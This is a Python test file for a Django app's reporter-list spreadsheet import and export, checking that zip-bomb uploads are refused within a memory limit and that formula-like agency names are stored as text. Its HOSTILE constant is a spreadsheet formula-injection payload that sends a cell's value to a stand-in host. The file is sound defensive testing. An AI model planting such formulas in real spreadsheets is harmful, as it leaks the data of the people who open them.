"""The reporter list (an XLSX Sở Nội vụ uploads and downloads) meets the same rules as every
other spreadsheet: a zip bomb is refused before openpyxl inflates it, and an agency name
that looks like a formula is written as text."""

import io
import tracemalloc

from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from agencies import account_lists
from agencies.accounts import AccountError
from tests.factories import AgencyFactory

from .bombs import zip_bomb

HOSTILE = '=HYPERLINK("http://x/?leak="&B2,"Bấm xem")'


def test_a_zip_bomb_reporter_list_is_refused_before_it_is_inflated(db, tmp_path):
    bomb = zip_bomb(tmp_path / "ds.xlsx", megabytes=40)
    upload = SimpleUploadedFile("ds.xlsx", bomb.read_bytes())
    tracemalloc.start()
    try:
        try:
            account_lists.read_reporter_list(upload=upload, agencies=[])
        except AccountError as error:
            message = str(error)
        else:
            message = ""
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "nén" in message and message[0].isupper()
    assert peak < 8 * 1024 * 1024


def test_the_template_writes_a_formula_like_agency_name_as_text(db):
    agency = AgencyFactory(name=HOSTILE)
    content = account_lists.template_workbook(agencies=[agency])
    book = load_workbook(io.BytesIO(content))
    for sheet, coordinate in ((book.worksheets[0], "C2"), (book.worksheets[1], "A2")):
        cell = sheet[coordinate]
        assert (cell.value, cell.data_type) == (HOSTILE, "s")
        assert cell.quotePrefix
